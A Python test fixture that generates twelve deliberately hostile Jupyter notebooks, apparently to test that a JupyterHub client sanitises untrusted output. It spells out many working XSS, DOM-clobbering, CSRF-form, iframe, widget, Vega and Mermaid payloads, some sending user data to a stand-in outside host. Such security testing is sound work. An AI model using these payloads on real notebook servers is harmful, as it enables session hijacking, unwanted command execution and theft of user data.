"""Twelve hostile notebooks, which nobody has trusted."""

# ruff: noqa: E501 - payloads read better whole
from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

from tests.clients.hostile.deed import ELSEWHERE, deed, mark

Cell = dict[str, Any]
Notebook = dict[str, Any]
KERNEL = {"name": "python3", "display_name": "Python 3", "language": "python"}
WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"
WIDGET_STATE = "application/vnd.jupyter.widget-state+json"
_VEGA_LITE = "application/vnd.vegalite.v5+json"
_VEGA = "application/vnd.vega.v5+json"


def markdown(source: str, **more: Any) -> Cell:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(*bundles: dict[str, Any], source: str = "ran = 'evil'", **metadata: Any) -> Cell:
    """A cell that was never run, with outputs that say otherwise."""
    outputs = [{"output_type": "display_data", "data": bundle, "metadata": {}} for bundle in bundles]
    return {"cell_type": "code", "execution_count": None, "metadata": metadata, "outputs": outputs, "source": source}


def notebook(*cells: Cell, **metadata: Any) -> Notebook:
    return {"cells": list(cells), "metadata": {"kernelspec": KERNEL, **metadata}, "nbformat": 4, "nbformat_minor": 4}


def hostile_notebooks(hub: str, user: str) -> dict[str, Notebook]:
    """Their names and contents."""

    def run(case: str) -> str:
        return deed(case, hub, user)

    def tag(case: str) -> str:
        return f"<script>{run(case)}</script>"

    def svg(case: str) -> str:
        return (
            f'<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="{run(case)}"><script>{run(case)}</script>'
            f'<a href="javascript:{quote(run(case))}"><rect width="50" height="50"/></a></svg>'
        )

    def linker(command: str, arguments: dict[str, Any], kind: str) -> str:
        shown = json.dumps(arguments).replace('"', "&quot;")
        return (
            f'<{kind} href="#x" data-commandlinker-command="{command}" data-commandlinker-args="{shown}">run</{kind}>'
        )

    commands = [
        ("notebook:run-all-cells", {}),
        ("notebook:restart-run-all", {}),
        ("terminal:create-new", {}),
        ("console:create", {"kernelPreference": {"name": "python3"}}),
        ("filebrowser:open-url", {"url": f"{ELSEWHERE}/evil.ipynb"}),
        ("help:open", {"url": f"javascript:{mark('help-open')}", "text": "x", "newBrowserTab": True}),
        ("docmanager:delete-file", {}),
        ("hub:logout", {}),
    ]
    linked = "".join(linker(name, arguments, kind) for name, arguments in commands for kind in ("button", "a"))
    links = (
        f'<a href="javascript:{quote(run("link"))}">a</a><a href="JaVa&#9;Script:{quote(run("link-tab"))}">b</a>'
        f'<a href="&#1;javascript:{quote(run("link-control"))}" target="_top">c</a>'
        f'<a href="data:text/html,{quote(tag("link-data"))}">d</a><a href="vbscript:x" download="x">e</a>'
        f'<a href="{ELSEWHERE}/opener" target="_blank" rel="opener">f</a>'
        f'<map name=m><area shape=default href="javascript:{quote(run("area"))}"></map><img usemap="#m" src="" width=9 height=9>'
    )
    markdown_links = (
        f"[a](javascript:{quote(run('md-link'))}) [b](<JAVASCRIPT:{quote(run('md-link-2'))}>) [c][r] <javascript:1>"
        f" ![i](javascript:1)\n\n[r]: data:text/html,{quote(tag('md-data'))}\n\n{tag('md-script')}\n\n"
        f'<img src=x onerror="{run("md-onerror")}"><svg onload="{run("md-svg")}"></svg>'
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={mark("mxss")}&gt;">'
        f"<style>@import '{ELSEWHERE}/evil.css'; *{{background:url({ELSEWHERE}/evil)}}</style>"
    )
    latex = (
        f"$\\href{{javascript:{mark('latex')}}}{{\\text{{a}}}}$ $\\href{{ja\\unicode{{0x76}}ascript:{mark('latex-2')}}}{{b}}$ "
        f"$\\href{{data:text/html,{mark('latex-3')}}}{{c}}$ $\\href{{{ELSEWHERE}/opener}}{{d}}$ "
        f"$\\style{{position:fixed;top:0}}{{e}}\\cssId{{jupyter-config-data}}{{f}}\\class{{jp-Dialog}}{{g}}$ "
        "$\\require{html}\\require{action}\\require{bbox}\\toggle{x}{y}\\endtoggle$"
    )
    clobbering = "".join(
        f'<{kind} id="{name}" name="{name}" href="javascript:{mark("clobber")}" action="/hub/api">'
        f'<input name="{name}"><input name="baseUrl" value="{ELSEWHERE}/"></{kind}>'
        for kind in ("form", "a")
        for name in ("jupyter-config-data", "body", "cookie", "location", "jupyterapp", "head", "attributes", "Jupyter")
    )
    forms = (
        '<form method="post" action="/hub/api/users/evil"><input name="_xsrf" value="x"><button>a</button></form>'
        '<form id="far" method="post" action="/hub/admin/people?evil"></form><button form="far">b</button>'
        f'<form><button formaction="javascript:{quote(run("formaction"))}">c</button>'
        '<input type="image" formmethod="post" formaction="/hub/logout?evil" src="x" width="9" height="9"></form>'
        f'<isindex action="javascript:{mark("isindex")}">'
    )
    frames = (
        f'<iframe srcdoc="{tag("srcdoc").replace("<", "&lt;")}"></iframe><iframe src="javascript:{quote(run("frame"))}"></iframe>'
        f'<iframe src="data:text/html,{quote(tag("frame-data"))}"></iframe><iframe src="/hub/admin/people"></iframe>'
        f'<object data="javascript:{quote(run("object"))}"></object><embed src="/user/{user}/files/h/plain.svg">'
        f'<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/evil"><link rel="stylesheet" '
        f'href="{ELSEWHERE}/evil.css"><portal src="/hub/home"></portal>'
    )
    widget = {
        "state": {
            "w": {
                "model_module": "@jupyter-widgets/controls",
                "model_module_version": "2.0.0",
                "model_name": "HTMLModel",
                "state": {"value": f'<img src=x onerror="{run("widget")}">', "description": tag("widget-description")},
            },
            "l": {
                "model_module": f"{ELSEWHERE}/evil",
                "model_module_version": "1.0.0",
                "model_name": "EvilModel",
                "state": {},
            },
        },
        "version_major": 2,
        "version_minor": 0,
    }
    view = {"version_major": 2, "version_minor": 0}
    chart = {
        "data": {"url": "/hub/api/user", "format": {"type": "json"}},
        "mark": {"type": "image", "width": 9, "height": 9},
        "encoding": {"url": {"field": "url"}, "href": {"value": f"javascript:{mark('vega-href')}"}},
        "transform": [{"calculate": f"'{ELSEWHERE}/leak?' + datum.name", "as": "url"}],
    }
    signals = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 40,
        "height": 40,
        "signals": [{"name": "s", "init": f"constructor.constructor('{mark('vega-eval').replace(chr(39), '`')}')()"}],
        "marks": [
            {
                "type": "rect",
                "encode": {
                    "enter": {
                        "href": {"value": f"javascript:{mark('vega-mark')}"},
                        "width": {"value": 40},
                        "height": {"value": 40},
                    }
                },
            }
        ],
    }
    mermaid = (
        f'graph TD\n  A["<img src=x onerror={mark("mermaid")}>"]-->B\n  click A href "javascript:{quote(run("mermaid-href"))}"\n'
        f'  click B call alert("evil")\n'
    )
    loose = "%%{init: {'securityLevel': 'loose', 'flowchart': {'htmlLabels': true}}}%%\n"
    markup = f'"><img src=x onerror="{mark("metadata")}">'
    attached = {"x.svg": {"image/svg+xml": svg("attachment")}, "x.html": {"text/html": tag("attachment-html")}}
    html = [{"text/html": part} for part in (linked, links, clobbering, forms, frames)]
    return {
        "01-commands.ipynb": notebook(markdown(linked), code({"text/html": linked})),
        "02-links.ipynb": notebook(
            markdown(links), markdown(markdown_links), code(html[1], {"text/markdown": markdown_links})
        ),
        "03-svg.ipynb": notebook(
            markdown(svg("svg-md")), code({"image/svg+xml": svg("svg")}, {"text/html": svg("svg-html")})
        ),
        "04-latex.ipynb": notebook(markdown(latex), code({"text/latex": latex}, {"text/html": latex})),
        "05-clobbering.ipynb": notebook(markdown(clobbering), code(html[2])),
        "06-forms.ipynb": notebook(markdown(forms), code(html[3])),
        "07-frames.ipynb": notebook(markdown(frames), code(html[4], {"text/html": tag("html")})),
        "08-widgets.ipynb": notebook(
            code({WIDGET_VIEW: {"model_id": "w", **view}, "text/plain": "x"}, {WIDGET_VIEW: {"model_id": "l", **view}}),
            widgets={WIDGET_STATE: widget},
        ),
        "09-attachments.ipynb": notebook(
            markdown("![x](attachment:x.svg) [y](attachment:x.html)", attachments=attached),
            {
                "cell_type": "raw",
                "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
                "source": tag("raw"),
            },
        ),
        "10-metadata.ipynb": notebook(
            code(
                {"text/plain": markup},
                source=f"# {markup}",
                tags=['"><script>alert(1)</script>'],
                name=markup,
                collapsed=markup,
                trusted=True,
            ),
            code({"text/html": tag("trusted-cell")}, trusted=True, deletable=False),
            title=markup,
            authors=[{"name": markup}],
            trusted=True,
            signature="sha256:0",
            language_info={
                "name": markup,
                "codemirror_mode": {"name": markup},
                "file_extension": markup,
                "mimetype": markup,
            },
        ),
        "11-scripts.ipynb": notebook(
            code(
                {"application/javascript": run("javascript")},
                {"text/javascript": run("javascript-2"), "text/plain": "x"},
                {"application/vnd.jupyter.es6-rich-output": run("es6")},
                {"application/pdf": "JVBERi0xLjQK", "text/html": tag("pdf-html")},
            ),
            {
                **code(),
                "outputs": [
                    {
                        "output_type": "stream",
                        "name": "stdout",
                        "text": f"\x1b]8;;javascript:{mark('ansi')}\x1b\\x\x1b]8;;\x1b\\",
                    },
                    {
                        "output_type": "error",
                        "ename": markup,
                        "evalue": tag("error"),
                        "traceback": [tag("traceback"), markup],
                    },
                ],
            },
        ),
        "12-diagrams.ipynb": notebook(
            markdown(f"```mermaid\n{mermaid}```\n\n```mermaid\n{loose}{mermaid}```"),
            code({"text/vnd.mermaid": mermaid}, {_VEGA_LITE: chart}, {_VEGA: signals}),
        ),
    }


def trusted_script(hub: str, user: str) -> Notebook:
    """One whose output does its deed at once where the reader has trusted it."""
    return notebook(code({"text/html": f"<script>{deed('trusted', hub, user)}</script>"}))
